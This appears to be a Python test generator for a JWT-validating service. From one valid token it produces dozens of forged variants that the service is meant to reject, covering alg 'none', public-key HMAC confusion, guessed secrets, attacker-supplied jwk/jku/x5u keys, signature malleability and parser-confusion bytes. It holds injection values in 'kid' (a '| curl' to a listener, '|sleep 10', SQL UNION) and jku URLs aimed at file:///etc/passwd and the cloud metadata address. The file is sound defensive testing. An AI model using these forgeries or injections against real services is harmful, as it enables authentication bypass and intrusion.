"""What jwt_tool and its like make of one valid token: every item must be refused, and the token still work.

Ids are those of the threat list (M01 to M56, M59). The generator is pure: it needs the token, and where
there is one the public key of its `kid`. `sign`, when given, makes a validly signed token of a header and
a payload (both JSON as bytes), so that the checks behind the signature are reached as well.
"""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
from collections.abc import Callable, Iterator, Mapping
from typing import Any

from cryptography.hazmat.primitives.asymmetric import ec, rsa
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat
from joserfc.jwk import ECKey, JWKRegistry, RSAKey
from joserfc.jws import JWSRegistry

from admit.crypto.known import KNOWN_SECRETS

Mutation = tuple[str, str]
Sign = Callable[[bytes, bytes], str]

LISTENER = "http://127.0.0.1:9/listener"
#: order of the group of P-256 (SEC 2)
P256_ORDER = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551
_HASHES = {"HS256": hashlib.sha256, "HS384": hashlib.sha384, "HS512": hashlib.sha512}
_USUAL_CLAIMS = (
    "iss", "sub", "aud", "exp", "nbf", "iat", "jti", "name", "given_name", "family_name", "middle_name", "nickname",
    "preferred_username", "profile", "picture", "website", "email", "email_verified", "gender", "birthdate",
    "zoneinfo", "locale", "phone_number", "phone_number_verified", "address", "updated_at", "azp", "nonce",
    "auth_time", "at_hash", "c_hash", "acr", "amr", "sub_jwk", "cnf", "sid", "events", "toe", "txn", "act", "scope",
    "client_id", "may_act", "roles", "groups", "entitlements", "token_introspection", "org_id", "user", "username",
    "login", "id", "user_id", "uid", "role", "admin", "is_admin", "permissions", "tenant",
)  # fmt: skip


def b64(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def unb64(text: str) -> bytes:
    return base64.urlsafe_b64decode(text + "=" * (-len(text) % 4))


def compact(value: Any) -> bytes:
    return json.dumps(value, separators=(",", ":")).encode()


class _Token:
    """The valid token, taken apart."""

    def __init__(self, token: str) -> None:
        self.text = token
        self.h, self.p, self.s = token.split(".")
        self.header: dict[str, Any] = json.loads(unb64(self.h))
        self.claims: dict[str, Any] = json.loads(unb64(self.p))

    def with_header(self, **changes: Any) -> str:
        """Another header, the old payload and signature."""
        return f"{b64(compact(self.header | changes))}.{self.p}.{self.s}"

    def with_claims(self, **changes: Any) -> str:
        """Other claims, the old header and signature."""
        return f"{self.h}.{b64(compact(self.claims | changes))}.{self.s}"

    def hmac(self, key: bytes, alg: str = "HS256", **changes: Any) -> str:
        """The same claims under an HMAC with `key`."""
        signed = f"{b64(compact(self.header | {'alg': alg} | changes))}.{self.p}"
        return f"{signed}.{b64(hmac.digest(key, signed.encode(), _HASHES[alg]))}"


def mutations(
    token: str, public_jwk: Mapping[str, Any] | None = None, sign: Sign | None = None, listener: str = LISTENER
) -> Iterator[Mutation]:
    """Every mutation as (id, token), ids such as `M14 HS256 PEM newline`. None equals `token`."""
    t = _Token(token)
    yield from _none(t)
    yield from _shapes(t)
    yield from _guessed_keys(t)
    if public_jwk is not None:
        yield from _key_confusion(t, public_jwk)
    yield from _own_key(t, listener)
    yield from _key_names(t)
    yield from _payload_tampering(t, listener)
    yield from _signatures(t)
    yield from _containers(t)
    if sign is not None:
        yield from _validly_signed(t, sign)


def _none(t: _Token) -> Iterator[Mutation]:
    for number, alg in enumerate(("none", "None", "NONE", "nOnE"), start=1):
        head = b64(compact(t.header | {"alg": alg}))
        yield f"M{number:02} {alg}", f"{head}.{t.p}."
        yield f"M05 {alg} old signature", f"{head}.{t.p}.{t.s}"
    wrong: list[Any] = ["none ", "", None, 0, ["none"], [t.header["alg"]], True, {"alg": "none"}]
    for value in wrong:
        yield f"M06 {value!r}", t.with_header(alg=value)
    bare = {name: value for name, value in t.header.items() if name != "alg"}
    yield "M06 missing", f"{b64(compact(bare))}.{t.p}.{t.s}"


def _shapes(t: _Token) -> Iterator[Mutation]:
    yield "M07", t.text[:-4]
    yield "M08", f"{t.h}.{t.p}."
    yield "M09", f"{t.h}.{t.p}"
    texts = ("", ".", "..", "...", f".{t.p}.{t.s}", f"{t.h}..{t.s}", f"{t.text}.", f"{t.text}.{t.s}", f".{t.text}")
    for number, text in enumerate(texts):
        yield f"M10 {number}", text
    yield "M59 8 KB", f"{t.h}.{t.p}{'A' * 8192}.{t.s}"
    yield "M59 1 MB", t.text + "A" * 1_000_000
    yield "M59 dots", "." * 300 + t.text


def _guessed_keys(t: _Token) -> Iterator[Mutation]:
    yield "M11", t.hmac(b"")
    for secret in sorted(KNOWN_SECRETS):
        yield f"M12 {secret}", t.hmac(secret.encode())
    for name in ("client_id", "iss", "sub", "jti"):
        yield f"M13 {name}", t.hmac(str(t.claims.get(name, "")).encode())
    yield "M13 kid", t.hmac(str(t.header.get("kid", "")).encode())
    yield "M13 alg", t.hmac(b"HS256", "HS384")


def _key_confusion(t: _Token, jwk: Mapping[str, Any]) -> Iterator[Mutation]:
    """The public key in every spelling, as an HMAC secret (CVE-2022-29217, CVE-2024-33663)."""
    native: Any = JWKRegistry.import_key(dict(jwk)).public_key
    forms = {
        "PEM": native.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo),
        "DER": native.public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo),
        "ssh": native.public_bytes(Encoding.OpenSSH, PublicFormat.OpenSSH),
        "JWK": compact(dict(jwk)),
        "JWKS": compact({"keys": [dict(jwk)]}),
        "kid": str(jwk["kid"]).encode(),
    }
    if isinstance(native, rsa.RSAPublicKey):
        forms["PKCS1"] = native.public_bytes(Encoding.PEM, PublicFormat.PKCS1)
        forms["PKCS1 DER"] = native.public_bytes(Encoding.DER, PublicFormat.PKCS1)
        forms["n"] = unb64(jwk["n"])
    if isinstance(native, ec.EllipticCurvePublicKey):
        forms["point"] = native.public_bytes(Encoding.X962, PublicFormat.UncompressedPoint)
        forms["compressed"] = native.public_bytes(Encoding.X962, PublicFormat.CompressedPoint)
    for part in ("x", "y"):
        if part in jwk:
            forms[part] = unb64(jwk[part])
    for name, key in forms.items():
        number = "M14" if name == "PEM" else "M15"
        for alg in _HASHES:
            yield f"{number} {alg} {name}", t.hmac(key.rstrip(b"\n"), alg)
            yield f"{number} {alg} {name} newline", t.hmac(key.rstrip(b"\n") + b"\n", alg)


def _own_key(t: _Token, listener: str) -> Iterator[Mutation]:
    """Signed by the attacker's key, which the token itself brings along (CVE-2018-0114)."""
    for alg, key in (("ES256", ECKey.generate_key("P-256")), ("RS256", RSAKey.generate_key(2048))):
        own = dict(key.as_dict(private=False))
        brought: dict[str, dict[str, Any]] = {
            "M16": {"jwk": own | {"kid": t.header.get("kid")}},
            "M16 none": {"jwk": own, "kid": None},
            "M17": {"jku": listener},
            "M18": {"x5u": listener},
            "M19": {"x5c": [base64.b64encode(key.as_der()).decode()]},
            "M50": {},
        }
        for url in (f"{listener}@x", f"{listener}#x", "/redirect?to=" + listener, "/../../keys", "file:///etc/passwd"):
            brought[f"M20 {url}"] = {"jku": url}
        brought["M20 metadata"] = {"jku": "http://169.254.169.254/latest/meta-data/"}
        for name, extra in brought.items():
            signed = f"{b64(compact(t.header | {'alg': alg} | extra))}.{t.p}"
            signature = JWSRegistry.algorithms[alg].sign(signed.encode(), key)
            yield f"{name} {alg}", f"{signed}.{b64(signature)}"
            if extra:
                yield f"{name} {alg} old signature", t.with_header(**extra)


def _key_names(t: _Token) -> Iterator[Mutation]:
    names: dict[str, tuple[Any, bytes]] = {
        "M21 empty": ("", b""),
        "M22 up": ("../../../../../../dev/null", b""),
        "M22 null": ("/dev/null", b"\0"),
        "M23": ("/invalid_path", b""),
        "M24": ("|sleep 10", b""),
        "M25": ("| curl " + LISTENER, b""),
        "M26": ("x' UNION SELECT '1';--", b"1"),
        "M27 retired": ("2020-01-01", b""),
        "M27 long": ("k" * 10_000, b""),
        "M27 255": ("k" * 256, b""),
        "M27 list": ([t.header.get("kid")], b""),
        "M27 object": ({"kid": t.header.get("kid")}, b""),
        "M27 null": (None, b""),
        "M27 number": (1, b""),
    }
    for name, (kid, key) in names.items():
        yield name, t.with_header(kid=kid)
        yield f"{name} HMAC", t.hmac(key, kid=kid)
    twice = compact(t.header)[:-1] + b',"kid":"x"}'
    yield "M27 twice", f"{b64(twice)}.{t.p}.{t.s}"


def _payload_tampering(t: _Token, listener: str) -> Iterator[Mutation]:
    for name in t.header:
        yield f"M28 header {name}", t.with_header(**{name: listener})
    for name in t.claims:
        yield f"M28 {name}", t.with_claims(**{name: listener})
        yield f"M29 {name}", t.with_claims(**{name: "m4rk3r"})
    for value in (None, True, False, 0, "text"):
        for name in _USUAL_CLAIMS:
            if name not in t.claims or t.claims[name] != value:
                yield f"M30 {name} {value!r}", t.with_claims(**{name: value})
        for name in ("typ", "jku", "kid", "x5u", "x5t"):
            yield f"M30 header {name} {value!r}", t.with_header(**{name: value})
    yield "M40", t.with_claims(exp=t.claims["exp"] + 10 * 365 * 86400)
    yield "M43", t.with_claims(sub="usr_0000000000000000000009")
    yield "M44 scope", t.with_claims(scope="admit:admin")
    yield "M44 roles", t.with_claims(roles=["admin"])
    yield "M46 azp", t.with_claims(azp="other")
    yield "M46 client", t.with_claims(client_id="other")
    yield "M47", t.with_claims(cnf={"jkt": "x"})


def _signatures(t: _Token) -> Iterator[Mutation]:
    raw = unb64(t.s)
    half = len(raw) // 2
    forged = {
        "M31 zeros": bytes(len(raw)),
        "M31 64 zeros": bytes(64),
        "M31 DER": bytes.fromhex("3006020100020100"),
        "M32 trailing zero": raw + b"\0",
        "M32 leading zero": b"\0" + raw,
        "M32 overflow": b"\xff" * len(raw),
        "M32 256 bytes": b"\xff" * 256,
        "M33 halves swapped": raw[half:] + raw[:half],
        "M33 96 bytes": bytes(95) + b"\1",
        "M35 low exponent": b"\0" * (len(raw) - 1) + b"\1",
        "M35 padding": b"\0\1" + b"\xff" * 8 + b"\0" + bytes(max(len(raw) - 11, 0)),
    }
    for name_r, r in (("0", 0), ("1", 1), ("n-1", P256_ORDER - 1), ("n", P256_ORDER)):
        for name_s, s in (("0", 0), ("1", 1), ("n-1", P256_ORDER - 1), ("n", P256_ORDER)):
            forged[f"M32 r={name_r} s={name_s}"] = r.to_bytes(32, "big") + s.to_bytes(32, "big")
    for bit in range(0, len(raw) * 8, max(len(raw) // 4, 1)):
        forged[f"M35 bit {bit}"] = bytes(b ^ (1 << bit % 8) if i == bit // 8 else b for i, b in enumerate(raw))
    for name, signature in forged.items():
        yield name, f"{t.h}.{t.p}.{b64(signature)}"
    for alg in ("RS256", "RS384", "RS512", "PS256", "PS384", "ES256", "ES384", "ES512", "ES256K", "EdDSA", "HS512"):
        if alg != t.header["alg"]:
            yield f"M36 {alg}", t.with_header(alg=alg)


def high_s_twin(token: str) -> str:
    """M34: the other valid signature of an ES256 token (s -> n - s). It verifies, so that nothing may be keyed on
    the text of a token: a deny list keys on `jti`.
    """
    t = _Token(token)
    raw = unb64(t.s)
    s = P256_ORDER - int.from_bytes(raw[32:], "big")
    return f"{t.h}.{t.p}.{b64(raw[:32] + s.to_bytes(32, 'big'))}"


def _containers(t: _Token) -> Iterator[Mutation]:
    flat = {"payload": t.p, "protected": t.h, "signature": t.s}
    yield "M52 flat", json.dumps(flat)
    yield "M52 general", json.dumps({"payload": t.p, "signatures": [{"protected": t.h, "signature": t.s}]})
    yield "M52 empty", json.dumps({"payload": t.p, "signatures": []})
    yield "M52 mixed", json.dumps({f"{t.h}.{t.p}.{t.s}": 1, "payload": b64(b"{}")})
    for name, text in (("padding", "="), ("plus", "+"), ("slash", "/"), ("blank", " "), ("newline", "\n"), ("?", "?")):
        yield f"M55 {name} after", t.text + text
        yield f"M55 {name} before", text + t.text
        yield f"M55 {name} in header", f"{t.h}{text}.{t.p}.{t.s}"
        yield f"M55 {name} in payload", f"{t.h}.{t.p}{text}.{t.s}"
    for number, part in enumerate((t.h, t.p, t.s)):
        if len(part) % 4:
            parts = [t.h, t.p, t.s]
            parts[number] = _unused_bits(part)
            yield f"M55 unused bits {number}", ".".join(parts)
    yield "M55 wide letters", t.text.replace("e", "\uff45", 1)
    yield "M56 five parts", f"{t.h}.{t.p}.{t.s}.{t.p}.{t.s}"
    yield "M56 nested", f"{b64(compact(t.header | {'cty': 'JWT'}))}.{b64(t.text.encode())}.{t.s}"
    jwe = b64(compact({"alg": "dir", "enc": "A128GCM", "cty": "JWT"}))
    yield "M56 JWE", f"{jwe}..{b64(bytes(12))}.{t.p}.{b64(bytes(16))}"


def _unused_bits(part: str) -> str:
    letters = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
    return part[:-1] + letters[letters.index(part[-1]) | 1]


def public_code(name: str) -> str:
    """The public code that the mutation `name` must get: told apart only where the signature is right."""
    if name.startswith("M37 past"):
        return "token_expired"
    return "token_type_invalid" if name.startswith("M48") else "token_invalid"


def _validly_signed(t: _Token, sign: Sign) -> Iterator[Mutation]:
    head, body = compact(t.header), compact(t.claims)
    for name, changes in _wrong_claims(t.claims).items():
        claims = {key: value for key, value in (t.claims | changes).items() if value is not ...}
        yield name, sign(head, compact(claims))
    for name, header in _wrong_headers(t.header).items():
        yield name, sign(compact({key: value for key, value in header.items() if value is not ...}), body)
    for name, (raw_head, raw_body) in _wrong_bytes(head, body).items():
        yield name, sign(raw_head, raw_body)


def _wrong_claims(claims: dict[str, Any]) -> dict[str, dict[str, Any]]:
    """Changes to the claims; `...` leaves one out."""
    iss, sub, exp = claims["iss"], claims["sub"], claims["exp"]
    aud = claims["aud"] if isinstance(claims["aud"], str) else claims["aud"][0]
    values: dict[str, tuple[str, list[Any]]] = {
        "M37": ("exp", [..., None, str(exp), float(exp), exp + 0.5, -exp, True, [exp], {"exp": exp}, 10**30, 2**53]),
        "M38": ("nbf", [exp + 3600, None, "0", 0.5, -1, [0]]),
        "M39": ("iat", [exp + 3600, None, "0", 0.5, -1, ...]),
        "M41": ("iss", [..., None, [iss], iss + "/", iss[:-1], iss.upper(), " " + iss, "https://x", 1, {"a": iss}]),
        "M42": (
            "aud",
            [..., None, [], "x", ["x"], aud[:-1], aud + ".evil", aud.upper(), [aud, 1], [[aud]], 1, {aud: 1}],
        ),
        "M43": ("sub", [..., None, "", 1, [sub], {"sub": sub}, True, "u" * 256]),
        "M45": ("jti", [..., None, 1, ["x"]]),
        "M46": ("client_id", [..., None, 1, ["x"]]),
        "M44": ("scope", [None, 1, ["admit:admin"], {"admit:admin": True}]),
        "M47": ("cnf", [None, "x", 1, []]),
    }
    found = {f"{name} {claim} {v!r}": {claim: v} for name, (claim, vs) in values.items() for v in vs}
    return found | {f"M37 past {at}": {"exp": at} for at in (0, 1, 1_000_000_000)}


def _wrong_headers(header: dict[str, Any]) -> dict[str, dict[str, Any]]:
    types = ("JWT", "logout+jwt", "dpop+jwt", "application/at+jwt", "AT+JWT", "at+jwt ", "", ...)
    found = {f"M48 {typ!r}": header | {"typ": typ} for typ in types}
    extras: dict[str, dict[str, Any]] = {
        "M16 right signature": {"jwk": {"kty": "oct", "k": ""}},
        "M17 right signature": {"jku": LISTENER},
        "M18 right signature": {"x5u": LISTENER},
        "M19 right signature": {"x5c": []},
        "M51 unknown": {"crit": ["x"], "x": 1},
        "M51 absent": {"crit": ["x"]},
        "M51 exp": {"crit": ["exp"], "exp": 1},
        "M51 empty": {"crit": []},
        "M51 text": {"crit": "x"},
        "M51 twice": {"crit": ["x", "x"], "x": "1"},
        "M51 b64": {"crit": ["b64"], "b64": False},
        "M51 b64 alone": {"b64": False},
        "M56 cty": {"cty": "JWT"},
        "M57 zip": {"zip": "DEF"},
    }
    return found | {name: header | extra for name, extra in extras.items()}


def _wrong_bytes(head: bytes, body: bytes) -> dict[str, tuple[bytes, bytes]]:
    """Header and payload as bytes that two parsers may read in two ways."""
    more = {
        "M37 NaN": b'"x":NaN}',
        "M37 Infinity": b'"x":-Infinity}',
        "M37 1e400": b'"x":1e400}',
        "M53 sub": b'"sub":"usr_1"}',
        "M53 exp": b'"exp":99999999999}',
        "M53 escaped sub": b'"\\u0073ub":"usr_1"}',
        "M54 half a pair": b'"x":"\\ud800"}',
        "M54 broken": b'"x":"\xff"}',
        "M54 overlong": b'"x":"\xc0\xaf"}',
        "M54 control": b'"x":"\x01"}',
        "M54 comma": b"}",
        "M54 quotes": b"'x':1}",
        "M54 comment": b'"x":1/**/}',
    }
    found = {name: (head, body[:-1] + b"," + tail) for name, tail in more.items()}
    found |= {f"M53 header {name}": (head[:-1] + b"," + tail, body) for name, tail in (
        ("alg", b'"alg":"none"}'), ("typ", b'"typ":"JWT"}'), ("escaped alg", b'"\\u0061lg":"none"}')
    )}  # fmt: skip
    for name, spell in (("UTF-16", "utf-16"), ("UTF-16BE", "utf-16-be"), ("UTF-32", "utf-32"), ("BOM", "utf-8-sig")):
        found[f"M54 {name} payload"] = (head, body.decode().encode(spell))
        found[f"M54 {name} header"] = (head.decode().encode(spell), body)
    for number, payload in enumerate((b"[]", b'"x"', b"1", b"null", b"{}", b"", b"{", body * 2, b"[" * 5000, b"x")):
        found[f"M56 payload {number}"] = (head, payload)
    for number, header in enumerate((b"[]", b"null", b"{}", b"1", b"{", head * 2, b"[" * 3000)):
        found[f"M56 header {number}"] = (header, body)
    return found
